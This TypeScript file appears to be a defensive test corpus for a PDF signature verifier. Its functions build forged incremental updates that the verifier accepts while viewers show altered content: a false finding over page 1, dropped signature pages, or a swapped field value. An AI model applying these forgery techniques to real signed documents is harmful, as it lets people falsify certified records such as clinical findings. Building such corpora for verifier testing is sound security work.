/**
 * Bypasses found in the third review of the revision-aware verifier (pdfObjects.ts, pdfFile.ts,
 * diff.ts, verify.ts), after the corpus above was all caught. Each was VALID (or only SIGNER NOT
 * TRUSTED) when written:
 *  - references are resolved by object number alone (`PdfFile.resolve`, `refNum` in diff.ts): a
 *    reference whose generation is not the cross-reference entry's reads as the object for the
 *    verifier, but poppler cannot fetch it and rebuilds the cross-reference by scanning the whole
 *    file, where the last body of each object wins, bodies inside other objects' stream data included.
 *    No preparation is needed: the catalog may be rewritten after signing as long as its /AcroForm
 *    resolves to the same form, so `/AcroForm 29 1 R` is "no change";
 *  - `mapRoles` never follows the keys /P and /Parent (SKIP_KEYS), wherever they stand: an optional
 *    content membership dictionary's visibility policy /P (indirect), and a form field's /Parent
 *    outside /Fields (from which poppler and pdf.js inherit /V, /FT, /DA, /Ff) are read by viewers and
 *    belong to nothing in the verifier's eyes;
 *  - a page-tree node's /Count and /Type are not walked (the page walk skips them): an indirect
 *    /Count redefined after signing makes poppler and pdf.js show fewer pages;
 *  - a page's /Parent outside the tree is walked for /Resources, /MediaBox, /CropBox and /Rotate
 *    only, but pdf.js also inherits /Annots (and page /AA) from it;
 *  - /AcroForm /DR may change after signing (an allowed "acroform-res" role), but viewers draw a
 *    text field without an appearance stream with the /DR font its /DA names;
 *  - filling an empty signature field is allowed whatever the field: a field the signer never saw
 *    painted (an empty signature field over page 1, prepared before signing) is filled by the forger
 *    with an appearance that paints the false finding over the page. SIGNER NOT TRUSTED only.
 * Each must be MODIFIED.
 */
import type { Genuine } from './genuine';
import { ALICE } from './genuine';
import { GENUINE_OPINION } from './formField';
import { FALSE_RECT, FALSE_TEXT, HELVETICA_BOLD, annotsOf, appearance, contentsOf, pageWithFont, refArray, rewritten, signRevision, whiteBoxWithText } from './forge';
import { appendUpdate, hexText, literal, mapDocument, ref, type ObjectDef } from './pdfWriter';

/** The raw bytes of `num 0 obj … endobj` for a stream (for bodies nested in another object's data). */
function nestedStream(num: number, data: string): string {
  return `\n${String(num)} 0 obj\n<< /Length ${String(data.length)} >>\nstream\n${data}\nendstream\nendobj\n`;
}

/**
 * Not prepared: one update rewrites the catalog so that its /AcroForm names the same form with
 * generation 1 (`29 1 R`; the cross-reference says generation 0), and adds an unreachable stream
 * whose data holds a forged page 1 (the false finding over the signed content), its overlay stream
 * and a `29 1 obj` copy of the form. The verifier resolves `29 1 R` to object 29, finds the same form
 * and nothing else reachable changed: VALID. poppler's catalog lookup of /AcroForm fails, it rebuilds
 * the cross-reference by scanning the file, and every body nested in the stream becomes the latest.
 */
export function generationMismatchReconstruct(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined || map.acroForm === null) throw new Error('no page 1 or no form');
  const [container, overlay] = [map.next, map.next + 1];
  const forged = pageWithFont(pdf, page, { Contents: refArray([...contentsOf(pdf, page), overlay]) });
  const nested = [
    `\n${String(page)} 0 obj\n${typeof forged.body === 'string' ? forged.body : ''}\nendobj\n`,
    nestedStream(overlay, `q\n${whiteBoxWithText(FALSE_RECT, FALSE_TEXT)}Q\n`),
    `\n${String(map.acroForm)} 1 obj\n<< /Fields ${refArray([...map.fields.values()])} /SigFlags 3 >>\nendobj\n`,
  ].join('');
  return appendUpdate(pdf, {
    objects: [rewritten(pdf, map.root, { AcroForm: ref(map.acroForm, 1) }), { num: container, body: { dict: '/Type /EmbeddedFile', data: nested } }],
  });
}

/**
 * Prepared before signing: page 1 draws the false finding in a white box inside marked content
 * `/OC /MC0 BDC … EMC`, where /MC0 is an optional content membership dictionary whose visibility
 * policy /P is an indirect object, /AllOff, over a group that is on: hidden, so Alice certifies the
 * true page. After signing the forger redefines that one object as /AllOn. The verifier never follows
 * a /P key, so the object belongs to nothing; poppler and pdf.js resolve it and show the false finding.
 */
export async function optionalContentPolicyFlipped(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const [group, policy, overlay, membership] = [map.next, map.next + 1, map.next + 2, map.next + 3];
  const own = pageWithFont(pdf, page, { Contents: refArray([...contentsOf(pdf, page), overlay]) });
  const pageBody = typeof own.body === 'string' ? own.body.replace('/ExtGState <<', `/Properties << /MC0 ${ref(membership)} >>\n/ExtGState <<`) : '';
  if (!pageBody.includes('/Properties')) throw new Error('page 1 has no /ExtGState to put /Properties beside');
  const prepared = appendUpdate(pdf, {
    objects: [
      { num: group, body: '<< /Type /OCG /Name (Annex) >>' },
      { num: policy, body: '/AllOff' },
      { num: membership, body: `<< /Type /OCMD /OCGs [${ref(group)}] /P ${ref(policy)} >>` },
      { num: overlay, body: { data: `/OC /MC0 BDC\n${whiteBoxWithText(FALSE_RECT, FALSE_TEXT)}EMC\n` } },
      { num: page, body: pageBody },
      rewritten(pdf, map.root, { OCProperties: `<< /OCGs [${ref(group)}] /D << /ON [${ref(group)}] /Order [] >> >>` }),
    ],
  });
  const signed = await g.certify(prepared);
  return appendUpdate(signed, { objects: [{ num: policy, body: '/AllOn' }] });
}

/** A text field "Opinion" over page 1's confidentiality line, with no appearance stream (viewers draw its value with the /DA font). */
function opinionWidget(page: number, extra: string): string {
  return `<< /Type /Annot /Subtype /Widget /FT /Tx /T (Opinion) /DA (/FAtt 13 Tf 0 g) /Rect [${FALSE_RECT.join(' ')}] /F 4 /P ${ref(page)} /MK << /BG [1 1 1] >>${extra} >>`;
}

/**
 * Prepared before signing: the Opinion text field (listed in /Fields and page 1's /Annots) has no
 * value of its own; its /Parent is a dictionary outside /Fields holding /V, the genuine opinion, which
 * poppler and pdf.js inherit and draw (the field has no appearance stream). After signing the forger
 * redefines that parent: /V is the false finding. The verifier never follows /Parent, so the parent
 * belongs to nothing; the field itself is untouched.
 */
export async function fieldValueFromParent(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined || map.acroForm === null) throw new Error('no page 1 or no form');
  const [field, parent, font] = [map.next, map.next + 1, map.next + 2];
  const prepared = appendUpdate(pdf, {
    objects: [
      { num: font, body: HELVETICA_BOLD },
      { num: parent, body: `<< /V ${literal(GENUINE_OPINION)} >>` },
      { num: field, body: opinionWidget(page, ` /Parent ${ref(parent)}`) },
      rewritten(pdf, map.acroForm, { Fields: refArray([...map.fields.values(), field]), DR: `<< /Font << /FAtt ${ref(font)} >> >>`, DA: '(/FAtt 13 Tf 0 g)' }),
      rewritten(pdf, page, { Annots: refArray([...annotsOf(pdf, page), field]) }),
    ],
  });
  const signed = await g.certify(prepared);
  return appendUpdate(signed, { objects: [{ num: parent, body: `<< /V ${literal(FALSE_TEXT)} >>` }] });
}

/**
 * Prepared before signing: the same Opinion field, its value its own (walked and judged), no
 * appearance stream, its /DA font /FAtt from /AcroForm /DR. After signing the forger rewrites the
 * AcroForm with a /DR whose /FAtt is Helvetica-Bold with an /Encoding that maps every letter to
 * /space: the opinion is gone from the page. /DR is an allowed change for the verifier.
 */
export async function formResourcesFontSwapped(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined || map.acroForm === null) throw new Error('no page 1 or no form');
  const [field, font] = [map.next, map.next + 1];
  const fields = [...map.fields.values(), field];
  const prepared = appendUpdate(pdf, {
    objects: [
      { num: font, body: HELVETICA_BOLD },
      { num: field, body: opinionWidget(page, ` /V ${literal(GENUINE_OPINION)}`) },
      rewritten(pdf, map.acroForm, { Fields: refArray(fields), DR: `<< /Font << /FAtt ${ref(font)} >> >>`, DA: '(/FAtt 13 Tf 0 g)' }),
      rewritten(pdf, page, { Annots: refArray([...annotsOf(pdf, page), field]) }),
    ],
  });
  const signed = await g.certify(prepared);
  const after = mapDocument(signed);
  const blankFont = after.next;
  const spaces = Array.from({ length: 95 }, () => '/space').join(' ');
  return appendUpdate(signed, {
    objects: [
      { num: blankFont, body: `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [32 ${spaces}] >> >>` },
      rewritten(signed, map.acroForm, { DR: `<< /Font << /FAtt ${ref(blankFont)} >> >>` }),
    ],
  });
}

/**
 * Prepared before signing: the page tree's /Count is an indirect object (10). After signing the
 * forger redefines it as 8: poppler and pdf.js show eight pages, and the clinician's signature,
 * declarations and annexes (pages 9 and 10) are gone. The page walk skips /Count.
 */
export async function pageCountIndirect(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const count = map.next;
  const prepared = appendUpdate(pdf, { objects: [{ num: count, body: String(map.pageNums.length) }, rewritten(pdf, map.pages, { Count: ref(count) })] });
  const signed = await g.certify(prepared);
  return appendUpdate(signed, { objects: [{ num: count, body: String(map.pageNums.length - 2) }] });
}

/**
 * Prepared before signing: page 1 has no /Annots of its own and its /Parent is a page-tree node
 * outside the tree whose /Annots is an indirect, empty array. After signing the forger redefines that
 * array to hold a new FreeText annotation painting the false finding. pdf.js (the app's preview,
 * Firefox) inherits /Annots through /Parent and draws it; the verifier walks only /Resources,
 * /MediaBox, /CropBox and /Rotate of such a node. poppler reads a page's own /Annots only.
 */
export async function orphanParentAnnots(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const [node, annots] = [map.next, map.next + 1];
  const prepared = appendUpdate(pdf, {
    objects: [
      { num: annots, body: '[]' },
      { num: node, body: `<< /Type /Pages /Kids [${ref(page)}] /Count 1 /Parent ${ref(map.pages)} /Annots ${ref(annots)} >>` },
      rewritten(pdf, page, { Parent: ref(node), Annots: null }),
    ],
  });
  const signed = await g.certify(prepared);
  const [annot, ap] = [mapDocument(signed).next, mapDocument(signed).next + 1];
  return appendUpdate(signed, {
    objects: [
      { num: ap, body: appearance(FALSE_RECT, FALSE_TEXT) },
      { num: annot, body: `<< /Type /Annot /Subtype /FreeText /Rect [${FALSE_RECT.join(' ')}] /Contents ${literal(FALSE_TEXT)} /DA (/Helv 13 Tf 0 g) /F 4 /P ${ref(page)} /AP << /N ${ref(ap)} >> >>` },
      { num: annots, body: `[${ref(annot)}]` },
    ],
  });
}

/**
 * Prepared before signing: an empty signature field "Witness" whose widget lies over page 1's
 * confidentiality line and paints nothing (an empty appearance). Alice certifies the page as she sees
 * it. The forger then signs that field (filling an empty signature field is allowed), and the
 * appearance of her signature paints a white box and the false finding over page 1. The verifier
 * calls it SIGNER NOT TRUSTED, as for any honest countersignature by someone not trusted here.
 */
export async function preparedFieldOverContentSigned(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined || map.acroForm === null) throw new Error('no page 1 or no form');
  const [field, blank] = [map.next, map.next + 1];
  const widget = (extra: string): string => `<< /Type /Annot /Subtype /Widget /FT /Sig /T ${hexText('Witness')} /Rect [${FALSE_RECT.join(' ')}] /F 4 /P ${ref(page)}${extra} >>`;
  const prepared = appendUpdate(pdf, {
    objects: [
      { num: blank, body: { dict: '/Type /XObject /Subtype /Form /BBox [0 0 1 1]', data: '' } },
      { num: field, body: widget(` /AP << /N ${ref(blank)} >>`) },
      rewritten(pdf, map.acroForm, { Fields: refArray([...map.fields.values(), field]) }),
      rewritten(pdf, page, { Annots: refArray([...annotsOf(pdf, page), field]) }),
    ],
  });
  const signed = await g.certify(prepared);
  return signRevision(signed, {
    identity: g.mallory,
    signingTime: g.times.mallory,
    name: ALICE,
    build: (sigNum, next) => {
      const objects: ObjectDef[] = [
        { num: next, body: appearance(FALSE_RECT, FALSE_TEXT) },
        { num: field, body: widget(` /AP << /N ${ref(next)} >> /V ${ref(sigNum)}`) },
      ];
      return { objects };
    },
  });
}
